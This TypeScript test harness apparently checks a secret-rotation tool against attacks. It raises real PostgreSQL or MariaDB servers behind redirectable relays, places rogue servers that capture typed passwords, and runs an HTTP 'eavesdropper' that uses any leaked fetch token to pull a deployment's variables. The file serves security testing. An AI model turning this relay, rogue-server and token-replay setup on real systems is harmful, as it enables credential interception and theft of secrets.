// Where the attack takes place: true servers behind relays, a rogue one, and a receiver that listens to what is told by HTTP.

import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { Secret } from '#lib/crypto/secret.ts';
import { startMariadbTarget } from '#scripts/servers/mariadb-target.ts';
import { startTarget } from '#scripts/servers/test-target.ts';
import { makeCertificate } from '#scripts/testing/make-certificate.ts';
import { type Relay, startRelay } from './relay.ts';
import { MYSQL_METHODS, type MysqlMethod, startRogueMysql } from './rogue-mysql.ts';
import { POSTGRES_METHODS, type PostgresMethod, startRoguePostgres } from './rogue-postgres.ts';
import type { RogueServer } from './rogue-server.ts';

/** How the victims' logins are guarded; each has an address of its own. */
export const CHANNELS = ['disable', 'prefer', 'require', 'verify-ca', 'pooled', 'rotator'] as const;
export type Channel = (typeof CHANNELS)[number];

export type Engine = 'postgresql' | 'mysql';

/** The attacker's true login on the server, without a password, behind the rogue servers. */
const EVE = 'eve';
/** What the attacker typed as the password of a login: known to its own rogue server. */
export const typedPassword = (user: string): string => `typed-by-mallory-for-${user}`;

/** Loopback may be trusted with more than other hosts: an address that others reach too is used where the machine has one. */
export const attackHost = (): string =>
  Object.values(networkInterfaces())
    .flat()
    .find((one) => one && one.family === 'IPv4' && !one.internal)?.address ?? '127.0.0.1';

export interface Theatre {
  engine: Engine;
  methods: readonly string[];
  rogue: RogueServer<string>;
  relays: Record<string, Relay>;
  /** Those of the victims that live here. */
  victims: <V extends { theatre: Theatre; channel: Channel }>(all: readonly V[], channel?: Channel) => V[];
  /** The certificate of the true server, which is its own CA. */
  caPem: string;
  /** Redirects a relay to the true server again. */
  restore: (channel: string) => void;
  /** A connection URL. */
  url: (address: { host: string; port: number }, user: string, password?: string) => string;
  /** Makes a login on the true server; the attacker's where no password is given. */
  createLogin: (name: string, password?: string) => Promise<void>;
  /** Makes a login that may change the password of that one; answers its own. */
  createRotator: (name: string, of: string) => Promise<string>;
  stop: () => Promise<void>;
}

/** Receives what Rekey tells by HTTP; a token that fetches a deployment's variables is used at once. */
export interface Eavesdropper {
  url: string;
  heard: string[];
  stop: () => void;
}

export async function startEavesdropper(host: string): Promise<Eavesdropper> {
  const heard: string[] = [];
  const server = http.createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    heard.push(body);
    const { variables_url: url, fetch_token: token } = /fetch_token/.test(body) ? JSON.parse(body) : {};
    if (url) heard.push(await (await fetch(url, { headers: { authorization: `Bearer ${token}` } })).text());
    response.writeHead(204).end();
  });
  server.listen(0, host);
  await once(server, 'listening');
  return { url: `http://${host}:${(server.address() as AddressInfo).port}/hook`, heard, stop: () => void server.close(() => {}).closeAllConnections() };
}

/** The true servers of one engine, with addresses that can be redirected. */
export async function raiseTheatre(engine: Engine, host: string): Promise<Theatre> {
  const certificate = makeCertificate('db.example.com');
  const isPostgres = engine === 'postgresql';
  const postgres = isPostgres
    ? await startTarget({ certificate, hba: [`host all ${EVE} all trust`, 'host all all all scram-sha-256'], pooler: 'auth_query' })
    : null;
  const mariadb = isPostgres ? null : await startMariadbTarget({ certificate });
  const { target } = (postgres ?? mariadb) as unknown as { target: { host?: string; directPort?: number; direct?: { host: string; port: number } } };
  const at = target.direct ?? { host: target.host ?? '127.0.0.1', port: target.directPort ?? 0 };
  const relays: Record<string, Relay> = {};
  const truths: Record<string, { host: string; port: number }> = {};
  for (const channel of [...CHANNELS, 'pooler'] as const) {
    const pooler = postgres?.pooler;
    if (channel === 'pooler' && !pooler) continue;
    truths[channel] = channel === 'pooler' && pooler ? { host: pooler.host, port: pooler.port } : at;
    relays[channel] = await startRelay(host, truths[channel]);
  }
  const createLogin = async (name: string, password = typedPassword(name)) => {
    if (postgres) await postgres.createLogin(name, { password });
    else await mariadb?.createLogin(name, { password });
  };
  if (postgres) await postgres.sql(`CREATE ROLE ${EVE} LOGIN`);
  else {
    await createLogin(EVE);
    await mariadb?.sql(`SET PASSWORD FOR '${EVE}'@'%' = ''`);
  }
  const options = { host, offersTls: true, typedPassword, refusesOthers: false, trueServer: { ...at, user: EVE } };
  const rogue = isPostgres ? startRoguePostgres({ ...options, method: 'md5' }) : startRogueMysql({ ...options, method: 'native' });
  const theatre: Theatre = {
    engine,
    methods: isPostgres ? POSTGRES_METHODS : MYSQL_METHODS,
    rogue: rogue as RogueServer<PostgresMethod | MysqlMethod> as RogueServer<string>,
    relays,
    victims: (all, channel) => all.filter((one) => one.theatre === theatre && (channel === undefined || one.channel === channel)),
    caPem: certificate.certPem,
    restore: (channel) => relays[channel]?.redirect(truths[channel] ?? at),
    url: ({ host: to, port }, user, password = typedPassword(user)) =>
      `${isPostgres ? 'postgresql' : 'mysql'}://${encodeURIComponent(user)}:${encodeURIComponent(password)}@${to}:${port}/${isPostgres ? 'postgres' : 'shop'}`,
    createLogin,
    createRotator: async (name, of) => {
      const login = await (postgres ? postgres.createRotator(name, { user: of, password: new Secret('') }) : mariadb?.createRotator(name));
      return login?.password.reveal() ?? '';
    },
    stop: async () => {
      rogue.closeAll();
      for (const relay of Object.values(relays)) relay.close();
      await Promise.all([postgres?.stop(), mariadb?.stop()]);
    },
  };
  return theatre;
}
